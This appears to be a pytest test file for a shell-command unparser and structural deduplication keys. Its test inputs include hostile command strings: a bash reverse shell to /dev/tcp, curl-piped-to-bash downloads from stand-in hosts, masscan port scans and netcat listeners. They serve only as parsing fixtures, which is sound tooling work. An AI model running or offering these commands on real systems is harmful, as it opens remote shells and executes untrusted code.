"""Tests for AST unparsing and structural dedup keys."""

import string

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from repro.shell import parse, structural_key, unparse
from repro.shell.unparse import structural_key_list


class TestUnparse:
    @pytest.mark.parametrize(
        "line,expected",
        [
            ("ls   -la    /tmp", "ls -la /tmp"),
            ("a|b", "a | b"),
            ("a&&b", "a && b"),
            ("x;y", "x ; y"),
            ("cmd>out", "cmd > out"),
            ("cmd 2>&1", "cmd 2>& 1"),
            ("sleep 5 &", "sleep 5 &"),
        ],
    )
    def test_canonicalization(self, line, expected):
        assert unparse(line) == expected

    def test_quotes_preserved(self):
        assert unparse('php   -r  "phpinfo();"') == 'php -r "phpinfo();"'

    def test_subshell(self):
        assert unparse("( cd /tmp &&  ls )") == "(cd /tmp && ls)"

    def test_brace_group(self):
        assert unparse("{   cat;  }") == "{ cat; }"

    def test_assignments(self):
        assert unparse("FOO=1   BAR=2   cmd") == "FOO=1 BAR=2 cmd"

    def test_negated_pipeline(self):
        assert unparse("!  grep -q x f") == "! grep -q x f"

    @pytest.mark.parametrize(
        "line",
        [
            "ls -la /tmp",
            "curl https://x/a.sh | bash",
            "a && b || c; d &",
            "(cat a; cat b) | sort > out 2> err",
            "bash -i >& /dev/tcp/1.2.3.4/443 0>&1",
            "VAR=x cmd --flag value",
        ],
    )
    def test_fixed_point(self, line):
        once = unparse(line)
        assert unparse(once) == once

    def test_accepts_ast_input(self):
        ast = parse("ls -la")
        assert unparse(ast) == "ls -la"


SAFE = st.lists(
    st.text(alphabet=string.ascii_lowercase + "-/.", min_size=1, max_size=8), min_size=1, max_size=5
).map(" ".join)


@given(SAFE)
@settings(max_examples=150, deadline=None)
@example("<#")
@example("cat <#")
@example("ls ># x")
@example("echo a>#b")
@example("a 2>#")
def test_unparse_fixed_point_property(command):
    once = unparse(command)
    assert unparse(once) == once


@given(SAFE)
@settings(max_examples=150, deadline=None)
def test_unparse_preserves_parse(command):
    """Canonical text parses to the same command-name sequence."""
    from repro.shell import extract_command_names

    assert extract_command_names(unparse(command)) == extract_command_names(command)


class TestStructuralKey:
    def test_argument_values_abstracted(self):
        a = structural_key("masscan 203.0.113.7 -p 0-65535 --rate=1000 >> tmp.txt")
        b = structural_key("masscan 198.51.100.9 -p 0-65535 --rate=1000 >> other.txt")
        assert a == b

    def test_ports_abstracted(self):
        assert structural_key("nc -lvnp 4444") == structural_key("nc -lvnp 31337")

    def test_flags_are_structure(self):
        assert structural_key("nc -lvnp 4444") != structural_key("nc -ulp 4444")

    def test_command_names_are_structure(self):
        assert structural_key("ls /tmp") != structural_key("cat /tmp")

    def test_urls_abstracted(self):
        a = structural_key("curl http://a.example/x.sh | bash")
        b = structural_key("curl http://b.example/y.sh | bash")
        assert a == b

    def test_unparseable_keys_to_itself(self):
        assert structural_key("ls |") == "ls |"

    def test_assignment_values_abstracted(self):
        a = structural_key('export https_proxy="http://1.2.3.4:80"')
        b = structural_key('export https_proxy="socks5://1.2.3.4:80"')
        # both are export + one string argument; values abstract away
        assert a == b

    def test_list_structure_preserved(self):
        key = structural_key_list(parse("cd /tmp && make"))
        assert "cd" in key and "make" in key
